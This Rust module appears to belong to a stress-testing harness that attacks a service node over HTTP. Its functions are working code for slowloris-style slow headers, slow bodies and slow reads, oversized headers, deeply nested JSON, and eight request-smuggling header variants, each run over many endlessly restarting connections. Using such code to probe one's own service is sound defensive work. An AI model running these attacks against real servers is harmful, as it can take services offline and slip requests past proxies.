//! Attacks over HTTP.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;

use crate::Failed;
use crate::attacks::{Tally, Target, source};

/// More than the node has room for.
const CROWD: usize = 700;
/// Connections that send as fast as they can.
const FEW: usize = 8;

/// A connection from an address of the attacker's.
async fn connect(to: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind((source(0), 0).into())?;
    socket.connect(to).await
}

/// So many at a time, each again and again; none ends the others.
async fn crowd<F>(count: usize, each: impl Fn() -> F) -> Result<(), Failed>
where
    F: Future<Output = std::io::Result<()>> + Send + 'static,
{
    let mut all = JoinSet::new();
    loop {
        while all.len() < count {
            all.spawn(each());
        }
        // Whatever went wrong for one, it is tried again.
        if matches!(all.join_next().await, Some(Ok(Err(_)))) {
            tokio::time::sleep(Duration::from_millis(2)).await;
        }
    }
}

/// Sends `first`, then one byte of `drip` each second, until the node ends it.
async fn drip(to: SocketAddr, first: Vec<u8>, drip: &'static [u8], tally: Tally) -> std::io::Result<()> {
    let mut stream = connect(to).await?;
    tally.add(0);
    let ended = async {
        stream.write_all(&first).await?;
        let (mut reading, mut writing) = stream.split();
        let mut answer = [0; 256];
        for byte in drip.iter().cycle() {
            tokio::select! {
                read = reading.read(&mut answer) => return read.map(drop),
                () = tokio::time::sleep(Duration::from_secs(1)) => writing.write_all(&[*byte]).await?,
            }
        }
        Ok(())
    };
    let ended: std::io::Result<()> = ended.await;
    tally.add(1);
    ended
}

pub async fn slow_heads(target: Target, tally: Tally) -> Result<(), Failed> {
    let first = || b"GET /v1/status HTTP/1.1\r\nHost: a\r\nX-Slow: ".to_vec();
    crowd(CROWD, || drip(target.http, first(), b"a", tally.clone())).await
}

pub async fn slow_bodies(target: Target, tally: Tally) -> Result<(), Failed> {
    let head = "POST /v1/orders HTTP/1.1\r\nHost: a\r\nContent-Length: 440000\r\n\r\n";
    let first = || [head.as_bytes(), &vec![b' '; 430_000]].concat();
    crowd(CROWD, || drip(target.http, first(), b" ", tally.clone())).await
}

/// Asks for much and takes nothing of it.
pub async fn slow_readers(target: Target, tally: Tally) -> Result<(), Failed> {
    crowd(CROWD, || {
        let tally = tally.clone();
        async move {
            let socket = TcpSocket::new_v4()?;
            socket.bind((source(0), 0).into())?;
            socket.set_recv_buffer_size(2048)?;
            let mut stream = socket.connect(target.http).await?;
            tally.add(0);
            let asked = b"GET /v1/charter HTTP/1.1\r\nHost: a\r\n\r\n".repeat(400);
            let ended = stream.write_all(&asked).await;
            if ended.is_ok() {
                // Until it is closed; what has come is never read.
                while stream.ready(tokio::io::Interest::ERROR).await.is_ok_and(|ready| !ready.is_error()) {
                    tokio::time::sleep(Duration::from_millis(100)).await;
                }
            }
            tally.add(1);
            ended
        }
    })
    .await
}

/// Sends one request after the other on connections of its own, and looks at the first line of each answer.
async fn hammer(target: Target, tally: Tally, request: Vec<u8>) -> Result<(), Failed> {
    crowd(FEW, || {
        let (tally, request) = (tally.clone(), request.clone());
        async move {
            let mut stream = connect(target.http).await?;
            let mut answer = vec![0; 64 * 1024];
            loop {
                tally.add(0);
                stream.write_all(&request).await?;
                let read = stream.read(&mut answer).await?;
                if answer.starts_with(b"HTTP/1.1 4") {
                    tally.add(1);
                }
                if read == 0 {
                    return Ok(());
                }
            }
        }
    })
    .await
}

pub async fn long_headers(target: Target, tally: Tally) -> Result<(), Failed> {
    let request = format!("GET /v1/status HTTP/1.1\r\nHost: a\r\nX-Long: {}\r\n\r\n", "a".repeat(1 << 20));
    hammer(target, tally, request.into_bytes()).await
}

pub async fn deep_json(target: Target, tally: Tally) -> Result<(), Failed> {
    let body = "[".repeat(200_000);
    let head = format!("POST /v1/orders HTTP/1.1\r\nHost: a\r\nContent-Length: {}\r\n\r\n", body.len());
    hammer(target, tally, [head, body].concat().into_bytes()).await
}

/// A request inside of another's body, whose end is said twice. Counts answers to the hidden one.
pub async fn smuggling(target: Target, tally: Tally) -> Result<(), Failed> {
    let hidden = "GET /v1/hidden HTTP/1.1\r\nHost: a\r\n\r\n";
    let heads = [
        format!("Content-Length: {}\r\nTransfer-Encoding: chunked", 5 + hidden.len()),
        format!("Transfer-Encoding: chunked\r\nContent-Length: {}", 5 + hidden.len()),
        "Transfer-Encoding: chunked".to_owned(),
        "Transfer-Encoding: xchunked".to_owned(),
        "Transfer-Encoding:\r\n chunked".to_owned(),
        format!("Content-Length: 5\r\nContent-Length: {}", 5 + hidden.len()),
        "Content-Length : 5".to_owned(),
        "Content-Length: +5".to_owned(),
    ];
    let requests = heads.map(|head| format!("POST /v1/orders HTTP/1.1\r\nHost: a\r\n{head}\r\n\r\n0\r\n\r\n{hidden}"));
    let next = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let requests = std::sync::Arc::new(requests);
    crowd(FEW, || {
        let (tally, requests, next) = (tally.clone(), requests.clone(), next.clone());
        async move {
            let mut stream = connect(target.http).await?;
            let number = next.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
            tally.add(0);
            stream.write_all(requests[number % requests.len()].as_bytes()).await?;
            let mut answer = Vec::new();
            let _ = tokio::time::timeout(Duration::from_millis(500), stream.read_to_end(&mut answer)).await;
            let text = String::from_utf8_lossy(&answer);
            if text.starts_with("HTTP/1.1 4") {
                tally.add(1);
            }
            if text.contains("not-found") {
                tally.add(2);
            }
            Ok(())
        }
    })
    .await
}
